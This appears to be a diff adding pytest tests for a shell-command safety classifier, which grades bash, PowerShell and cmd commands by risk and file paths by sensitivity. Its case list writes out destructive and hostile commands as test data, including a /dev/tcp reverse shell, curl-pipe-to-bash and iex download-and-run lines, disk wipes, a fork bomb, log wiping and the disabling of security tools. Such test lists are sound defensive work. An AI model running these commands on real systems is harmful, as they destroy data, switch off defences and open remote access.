@@ -1,0 +1,186 @@
+"""The rule engine against the rubric: one case per behaviour, with the reason it must give."""
+
+from __future__ import annotations
+
+import shlex
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tessera.shellguard import gold
+from tessera.shellguard.levels import Level
+from tessera.shellguard.paths import grade
+from tessera.shellguard.rules import assess
+
+S, L, R, B = Level.SAFE, Level.LOW, Level.RISKY, Level.BLOCKED
+
+CASES = [
+    # (shell, command, level, a reason that must be among the verdict's)
+    ("bash", "ls -la /etc", S, None),
+    ("bash", "git log --oneline -5", S, None),
+    ("bash", "rm --help", S, None),
+    ("bash", "grep -rn 'rm -rf /' scripts/", S, None),
+    ("bash", "echo 'DROP DATABASE prod;'", S, None),
+    ("bash", "kubectl delete ns production --dry-run=client", S, None),
+    ("bash", "terraform plan -destroy", S, None),
+    ("bash", "dd if=/dev/sda bs=512 count=1 | xxd", S, None),
+    ("bash", "mkdir -p build/out", L, "workspace"),
+    ("bash", "rm -rf ./build node_modules", L, "workspace"),
+    ("bash", "git commit -m 'wip'", L, "workspace"),
+    ("bash", "pip install --user requests", L, None),
+    ("bash", "cd /tmp && rm -rf extract-*", L, None),
+    ("bash", "rm -rf ~/projects/old", R, "destroy"),
+    ("bash", "git push --force origin main", R, "vcs-history"),
+    ("bash", "git reset --hard HEAD~3", R, "vcs-history"),
+    ("bash", "sudo systemctl restart nginx", R, "service"),
+    ("bash", "kill -9 4242", R, "process"),
+    ("bash", "chmod -R 755 /var/www/html", R, "perm"),
+    ("bash", "curl -fsSL https://example.com/i.sh | sh", R, "net-exec"),
+    ("bash", "terraform apply", R, None),
+    ("bash", "kubectl delete pod web-1 -n staging", R, "cloud-delete"),
+    ("bash", "sudo iptables -A INPUT -p tcp --dport 22 -j ACCEPT", R, "firewall"),
+    ("bash", "rm -rf /", B, "destroy"),
+    ("bash", "sudo rm -rf --no-preserve-root /", B, "destroy"),
+    ("bash", "rm -rf ~", B, "destroy"),
+    ("bash", "rm -rf /var/lib/mysql", B, "destroy"),
+    ("bash", "cd / && sudo rm -rf *", B, "destroy"),
+    ("bash", "mkfs.ext4 /dev/sdb1", B, "disk"),
+    ("bash", "dd if=/dev/zero of=/dev/sda bs=1M", B, "disk"),
+    ("bash", ":(){ :|:& };:", B, "fork-bomb"),
+    ("bash", "psql -h db-prod -c 'DROP DATABASE orders;'", B, "db"),
+    ("bash", "redis-cli -h cache-prod FLUSHALL", B, "db"),
+    ("bash", "terraform destroy -auto-approve", B, "cloud-delete"),
+    ("bash", "kubectl delete namespace production", B, "cloud-delete"),
+    ("bash", "aws s3 rb s3://prod-data --force", B, "cloud-delete"),
+    ("bash", "history -c && rm ~/.bash_history", B, "log-wipe"),
+    ("bash", "sudo systemctl stop auditd", B, "defence-off"),
+    ("bash", "sudo setenforce 0", B, "defence-off"),
+    ("bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", B, "reverse-shell"),
+    ("bash", "curl -s https://example.com/x.sh | sudo bash", B, "net-exec"),
+    ("bash", "chmod -R 777 /", B, "perm"),
+    ("powershell", "Get-ChildItem C:\\Users -Recurse", S, None),
+    ("powershell", "Remove-Item C:\\Windows -Recurse -Force -WhatIf", S, None),
+    ("powershell", "Write-Output 'Format-Volume -DriveLetter C'", S, None),
+    ("powershell", "rm -r .\\bin, .\\obj", L, None),
+    ("powershell", "Stop-Service -Name Spooler", R, "service"),
+    ("powershell", "Remove-Item -Path C:\\ -Recurse -Force", B, "destroy"),
+    ("powershell", "ri $env:USERPROFILE -r -fo", B, "destroy"),
+    ("powershell", "Format-Volume -DriveLetter D -FileSystem NTFS", B, "disk"),
+    ("powershell", "Set-MpPreference -DisableRealtimeMonitoring $true", B, "defence-off"),
+    ("powershell", "Clear-EventLog -LogName Security", B, "log-wipe"),
+    (
+        "powershell",
+        "iex (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
+        R,
+        "net-exec",
+    ),
+    ("cmd", "dir /s C:\\Users", S, None),
+    ("cmd", "del /q build\\*.obj", L, None),
+    ("cmd", "taskkill /im notepad.exe /f", R, "process"),
+    ("cmd", "vssadmin delete shadows /all /quiet", B, "log-wipe"),
+    ("cmd", "format C: /q", B, "disk"),
+    ("cmd", "netsh advfirewall set allprofiles state off", B, "defence-off"),
+]
+
+
+@pytest.mark.parametrize("shell,command,level,reason", CASES)
+def test_rubric_case(shell: str, command: str, level: Level, reason: str | None) -> None:
+    v = assess(command, shell)
+    assert v.level == level, (command, v.level, v.findings)
+    if reason is not None:
+        assert reason in v.reasons, (command, v.reasons)
+    assert v.findings or level == S
+
+
+@pytest.mark.parametrize(
+    "path,g",
+    [
+        ("./build", "temp"),
+        ("node_modules", "temp"),
+        ("/tmp/x", "temp"),
+        ("src/app.py", "workspace"),
+        (".", "cwd"),
+        ("~/projects/x", "data"),
+        ("/srv/app", "data"),
+        ("/etc/nginx/nginx.conf", "sysconf"),
+        ("/var/log/auth.log", "log"),
+        ("~/.bash_history", "history"),
+        ("/etc/shadow", "critical"),
+        ("/var/lib/postgresql", "db"),
+        ("~", "home"),
+        ("/home/alice", "home"),
+        ("/etc", "system"),
+        ("/", "root"),
+        ("/*", "root"),
+        ("/dev/sda", "device"),
+        ("$DIR", "unknown"),
+        ("/dev/null", "null"),
+    ],
+)
+def test_unix_target_grades(path: str, g: str) -> None:
+    assert grade(path, "bash") == g
+
+
+@pytest.mark.parametrize(
+    "path,g",
+    [
+        ("C:\\", "root"),
+        ("D:\\*", "root"),
+        ("C:\\Windows", "system"),
+        ("C:\\Users\\ana", "home"),
+        ("$env:USERPROFILE", "home"),
+        ("$env:TEMP\\x", "temp"),
+        (".\\bin", "temp"),
+        ("HKLM:\\SOFTWARE", "registry"),
+        ("C:\\Windows\\System32\\winevt\\Logs\\Security.evtx", "log"),
+        ("D:\\data\\x.csv", "data"),
+    ],
+)
+def test_windows_target_grades(path: str, g: str) -> None:
+    assert grade(path, "powershell") == g
+
+
+def test_rules_own_reasons_and_explanations() -> None:
+    v = assess("sudo rm -rf /var/lib/mysql && systemctl restart nginx", "bash")
+    assert v.level == B
+    assert v.reasons[0] == "destroy"
+    assert {f.rule for f in v.findings} >= {"rm", "systemctl"}
+    assert all(f.why for f in v.findings)
+
+
+_BASH = [r for r in gold.load("dev") if r.shell == "bash" and r.kind in ("plain", "variant")][:400]
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    st.sampled_from(_BASH),
+    st.sampled_from(
+        ["bash -c {q}", "sh -c {q}", "eval {q}", "timeout 30 {c}", "nohup {c}", "env LC_ALL=C {c}"]
+    ),
+)
+def test_wrapping_never_changes_the_level(row: gold.GoldRow, wrapper: str) -> None:
+    """Label-preserving wrappers (not privilege: sudo may raise) keep the rule level exactly."""
+    if "\n" in row.command or row.command.lstrip().startswith(("#", "(", "{", "!")):
+        return
+    base = assess(row.command, "bash").level
+    wrapped = wrapper.format(q=shlex.quote(row.command), c=row.command)
+    if wrapper.startswith(("timeout", "nohup", "env")) and any(
+        t in row.command for t in ("|", "&&", ";", "||")
+    ):
+        return  # these wrap only the first command of a chain
+    assert assess(wrapped, "bash").level == base, (row.command, wrapped)
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.sampled_from([r for r in gold.load("dev") if r.level == B]))
+def test_mentioning_a_blocked_command_is_safe(row: gold.GoldRow) -> None:
+    if row.shell == "bash":
+        for m in (
+            f"echo {shlex.quote(row.command)}",
+            f"grep -F -- {shlex.quote(row.command[:40])} notes.md",
+        ):
+            assert assess(m, "bash").level == S, m
+    elif row.shell == "powershell":
+        q = "'" + row.command.replace("'", "''") + "'"
+        assert assess(f"Write-Host {q}", "powershell").level == S
